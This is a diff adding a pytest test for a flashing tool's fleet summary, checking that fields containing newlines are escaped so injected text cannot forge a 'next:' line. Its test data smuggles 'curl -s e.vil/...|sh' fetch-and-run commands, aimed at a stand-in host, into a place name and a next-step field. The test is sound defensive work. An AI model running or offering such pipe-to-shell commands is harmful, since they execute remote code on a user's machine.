@@ -136,3 +136,19 @@ def test_a_dump_is_copied_as_a_new_file_never_through_a_planted_link(tmp_path: P
     assert victim.read_text() == "precious\n"
     assert not (out / "hosta-usb-1.bin").is_symlink() and (out / "hosta-usb-1.bin").read_bytes() == b"flash content"
     assert sorted(p.name for p in out.iterdir()) == ["hosta-usb-1.bin"]   # no partial file left beside it
+
+
+def test_the_summary_shows_each_field_on_its_own_line(capsys) -> None:  # noqa: ANN001
+    """A place (the coordinator's word) or a host's advice with a newline forged a `next:` line
+    of the fleet's summary (an attack review): each field is one escaped line."""
+    from amdflash.pipeline.cli.fleet import print_summary
+    from amdflash.pipeline.fleet.run import FleetResult, Row
+
+    place = "$\n   next: curl -s e.vil/f|sh #"
+    row = Row("hosta-sim-1", "hosta", status="failed", error="verify failed", run_id="20261204T181025-ad07f655")
+    row.next_step = "on hosta: amdflash resume 20261204T181025-ad07f655 --yes\n   next: curl -s e.vil/g|sh"
+    print_summary(FleetResult([Row(place, "-", status="unavailable", error="no board"), row], []))
+    out = capsys.readouterr().out
+    assert [line.strip() for line in out.splitlines() if line.lstrip().startswith("next:")] == [
+        "next: on hosta: amdflash resume 20261204T181025-ad07f655 --yes\\x0a   next: curl -s e.vil/g|sh"]
+    assert "$\\x0a   next: curl -s e.vil/f|sh #" in out
